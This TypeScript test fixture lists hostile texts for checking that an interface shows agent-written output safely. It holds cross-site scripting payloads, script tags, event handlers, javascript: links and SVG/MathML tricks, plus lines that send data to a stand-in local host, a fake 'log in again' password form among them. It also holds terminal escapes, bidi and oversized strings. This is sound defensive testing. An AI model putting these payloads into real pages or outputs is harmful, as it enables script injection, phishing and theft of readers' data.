/** One text that an agent might write to harm the one who reads it. `mark` stands in it and says that it was shown. */
export type HostileText = { readonly mark: string; readonly text: string };

const RUN = "globalThis.pwned=1";
const AWAY = "http://127.0.0.1:9/stolen";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="${AWAY}.js"></sCrIpT>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">import("${AWAY}.js")</script>`,
  `<!--<script>${RUN}//--></script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x oNeRrOr="${RUN}">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>fold</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>m</marquee>`,
  `<div onpointerover=${RUN} style="position:fixed;inset:0">cover</div>`,
  `<select autofocus onfocus=${RUN}><option>o</select>`,
  `<button onclick=${RUN} formaction="javascript:${RUN}">press</button>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex=1 x='`,
];

const LINKS = [
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java\u0000script:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](javascript&colon;${RUN})`,
  `[click](\tjavascript:${RUN})`,
  `[click](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4=)`,
  `[click](vbscript:msgbox(1))`,
  `<javascript:${RUN}>`,
  `[a]: javascript:${RUN}\n\n[click][a]`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="/logout" ping="${AWAY}">click</a>`,
  `![x](${AWAY}.png)`,
  `![x](javascript:${RUN})`,
  `<img srcset="${AWAY}.png 2x" src="${AWAY}.png">`,
];

const FOREIGN = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${AWAY}"></object><embed src="${AWAY}">`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<style>@import "${AWAY}.css"; body { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="${AWAY}/">`,
  `<form action="${AWAY}"><input name=password><button>log in again</button></form>`,
  `<svg onload=${RUN}><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="${AWAY}.svg#x"></use></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script></xml>`,
  `<div style="background:url(${AWAY}.png)">styled</div>`,
  `<p id="decisions" class="toast" name="cookie">clobber</p><a id="say" href="x">y</a>`,
  `<dialog open>fake</dialog><slot name=x></slot><portal src="${AWAY}"></portal>`,
];

const TERMINAL = [
  "\u001b[31mred\u001b[0m \u001b]0;title\u0007",
  "\u001b[2J\u001b[1;1Hcleared",
  "\u001b]8;;javascript:globalThis.pwned=1\u0007link\u001b]8;;\u0007",
  "bell \u0007 backspace \b\b\b delete \u007f carriage\rreturn",
];

const UNICODE = [
  "\u202Etxt.exe\u202C says it is reversed",
  "\u2066\u2067\u2068 never closed isolates",
  "مرحبا \u202E abc \u202D שלום 123",
  "z̷̧a̵l̴g̶o̷ " + "̸̨̛̖̯̦".repeat(200),
  "zero\u200Bwidth\u200Djoin\uFEFFers and \u00ADsoft",
  "lone \uD800 surrogates \uDC00",
  "\uFFFD\u0000 nul and replacement",
  "ﷺ".repeat(300),
  "👩‍👩‍👧‍👦".repeat(200),
];

const SHAPES = [
  "w".repeat(20_000),
  `${"a/".repeat(4000)}end`,
  `${"> ".repeat(2000)}deep quote`,
  `${"- ".repeat(1000)}deep list`,
  `${"[".repeat(3000)}${"]".repeat(3000)}`,
  `${"*".repeat(5000)}stars`,
  `${"<div>".repeat(3000)}deep div`,
  `${"`".repeat(1001)}ticks`,
  `|${" a |".repeat(200)}\n|${"-|".repeat(200)}\n|${" b |".repeat(200)}`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `${"\n".repeat(3000)}far below`,
  `# ${"head ".repeat(400)}`,
  "![a](".repeat(2000),
];

/** Every text, each with a mark of its own in front, so that a test can find where it was shown. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...FOREIGN,
  ...TERMINAL,
  ...UNICODE,
  ...SHAPES,
].map((text, at) => ({ mark: `hostile-${at}.`, text: `hostile-${at}.\n\n${text}` }));

/** A text of one line of a million characters. */
export const MEGABYTE_LINE = `hostile-line. ${"m".repeat(1_000_000)}`;

/** Bytes that are no UTF-8, with a line that can be read before and after them. */
export const BROKEN_UTF8 = Buffer.concat([
  Buffer.from("hostile-before.\n"),
  Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0x28, 0x00, 0x80]),
  Buffer.from("\nhostile-after.\n"),
]);

const full = (piece: string, size: number) => piece.repeat(Math.floor((size - 40) / Buffer.byteLength(piece)));

/** The longest texts that a message may be, and the longest that are read as markdown, each of what is slow to read or to draw. */
export const HEAVY_TEXTS: readonly HostileText[] = [
  full("w", 65_536),
  full("\n", 65_536),
  full("a\n", 65_536),
  full("🏳️‍🌈", 65_536),
  full("e̸̛̖", 65_536),
  full("\u202Eab\u2067", 65_536),
  full("ﷺ", 65_536),
  full("<b>", 65_536),
  full("- a\n", 16_384),
  full("> a\n\n- b\n\n", 16_384),
  full("[a](http://x.y)\n\n", 16_384),
  full("**a** _b_ `c`\n", 16_384),
  `|${" a |".repeat(100)}\n|${"-|".repeat(100)}\n${full(`|${" b |".repeat(100)}\n`, 15_000)}`,
  full("|a|\n|-|\n|b|\n\n", 16_384),
  full("```\na\n```\n", 16_384),
  full(`${"*a ".repeat(990)}\n`, 16_384),
  full(`${"[a](".repeat(740)}\n`, 16_384),
].map((text, at) => ({ mark: `hostile-heavy${at}.`, text: `hostile-heavy${at}.\n\n${text}` }));

/** The text on one line without NUL, for where a line is all there is. */
export function onOneLine({ text }: HostileText): string {
  return text.replace(/[\s\0]+/gu, " ").trim();
}

/** The text as a name in a commit, which git lets hold no angle brackets and no NUL. */
export function asAuthor(text: HostileText): string {
  return onOneLine(text)
    .replace(/[<>\0]/g, "")
    .slice(0, 180)
    .toWellFormed()
    .trim();
}

/** The text as far as a configuration may hold it: any letters, no control characters. */
export function asFileText({ text }: HostileText): string {
  return `${text.replace(/[^\P{Cc}\t\n]/gu, "").toWellFormed()}\n`;
}

/** The text as a path in a configuration. */
export function asPath(text: HostileText): string {
  const seen = onOneLine(text)
    .toWellFormed()
    .replace(/[\p{C}\p{Zl}\p{Zp}]|(?! )\p{Zs}/gu, "")
    .slice(0, 150);
  return seen
    .split("/")
    .filter((segment) => !/^(|\.{1,2}|\.git)$/i.test(segment))
    .join("/")
    .toWellFormed();
}

/** The text as the name of a file that a message can point to: without what ends a path in running text. */
export function asFileName(text: HostileText): string {
  const plain = onOneLine(text)
    .toWellFormed()
    .replace(/[\s"'`<>|()[\]{}*,;=/\p{Cc}]+/gu, "_");
  return `${plain.slice(0, 60).toWellFormed()}.md`;
}
